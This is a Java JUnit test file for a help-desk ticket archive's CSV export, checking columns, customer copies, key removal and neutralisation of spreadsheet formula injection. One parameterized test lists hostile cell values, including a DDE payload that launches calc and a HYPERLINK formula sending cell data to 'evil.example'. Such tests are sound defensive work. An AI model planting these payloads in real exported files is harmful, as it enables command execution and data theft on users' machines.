package io.github.ticketfolio.page;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.github.ticketfolio.ticket.Counts;
import io.github.ticketfolio.ticket.Department;
import io.github.ticketfolio.ticket.TicketLink;
import io.github.ticketfolio.ticket.TicketSummary;
import io.github.ticketfolio.ticket.Times;
import io.github.ticketfolio.ticket.Topic;
import java.io.IOException;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class TicketCsvTest {
  private static final CSVFormat FORMAT =
      CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get();

  private static List<CSVRecord> read(String csv) throws IOException {
    assertTrue(csv.startsWith("\ufeff"), "Excel needs the mark");
    try (CSVParser parser = CSVParser.parse(csv.substring(1), FORMAT)) {
      return parser.getRecords();
    }
  }

  @Test
  void holdsEveryTicketWithItsPage() throws IOException {
    List<CSVRecord> rows =
        read(SampleIndex.table(Samples.pages(), SampleIndex.tickets(SampleIndex.full())));

    assertEquals(4, rows.size());
    CSVRecord rich = rows.get(1);
    assertEquals("7311", rich.get("id"));
    assertEquals("KXB-482913", rich.get("number"));
    assertEquals("Mail from \"R&D\" isn't delivered", rich.get("subject"));
    assertEquals("214", rich.get("client_id"));
    assertEquals("Ana Petrović", rich.get("client"));
    assertEquals("Technical & Mail", rich.get("department"));
    assertEquals("Pending Vendor", rich.get("status"));
    assertEquals("High", rich.get("priority"));
    assertEquals("2024-11-12 14:03:09", rich.get("opened"));
    assertEquals("2024-11-18 09:30:00", rich.get("last_reply"));
    assertEquals("4", rich.get("replies"));
    assertEquals("2", rich.get("notes"));
    assertEquals("8", rich.get("attachments"));
    assertEquals("tickets/2024-11/7311-KXB-482913.html", rich.get("page"));
    assertEquals(SampleIndex.answer(7311), rich.get("answer_sha256"));
    assertEquals("", rows.get(3).get("opened"));
  }

  @Test
  void hasNoColumnForNotesInACustomerCopy() {
    String csv =
        SampleIndex.table(Samples.customerPages(), SampleIndex.tickets(SampleIndex.full()));

    assertEquals(
        "\ufeffid,number,subject,client_id,client,department,status,priority,opened,last_reply,"
            + "replies,attachments,page,answer_sha256",
        csv.lines().findFirst().orElse(""));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "\"=1",
        "'=1",
        "&quot;=cmd|' /C calc'!A0",
        "&#61;1+1",
        "\u200b=1",
        "\uff1d1+1",
        "\u0000=1",
        "x\",=1+1",
        "=HYPERLINK(\"http://evil.example?\"&amp;A1)\r\n=2"
      })
  void startsNoFormula(String hostile) throws IOException {
    List<CSVRecord> rows =
        read(SampleIndex.table(Samples.pages(), List.of(ticket(hostile), ticket("Last"))));

    assertEquals(2, rows.size());
    assertEquals("Last", rows.get(1).get("subject"));
    for (String column :
        List.of("number", "subject", "client", "department", "status", "priority")) {
      String cell = rows.get(0).get(column);
      assertFalse(cell.matches("[\\s\"]*[=+@\\-\uff1d].*"), cell);
      assertTrue(cell.chars().noneMatch(Character::isISOControl), cell);
      assertTrue(cell.startsWith("'") || cell.startsWith("x") || cell.startsWith("␀"), cell);
    }
  }

  @Test
  void leavesOrdinaryTextAlone() throws IOException {
    for (String text : List.of("a = b", "Re: -1 day", "Müller, “Söhne”", "'quoted'", "請求書")) {
      List<CSVRecord> rows = read(SampleIndex.table(Samples.pages(), List.of(ticket(text))));
      assertEquals(text, rows.get(0).get("subject"));
    }
  }

  @Test
  void keepsKeysOfTicketsToItself() {
    String csv =
        SampleIndex.table(Samples.pages(), List.of(ticket("viewticket.php?tid=1&amp;c=aB3dE5fG")));

    assertFalse(csv.contains("aB3dE5fG"), csv);
  }

  private static TicketSummary ticket(String text) {
    return new TicketSummary(
        1,
        new TicketLink(text, text, "tickets/x/1.html"),
        new Topic(new Department(1, text), text, text, 9, text),
        new Times(null, null, null),
        new Counts(0, 0, 0));
  }
}
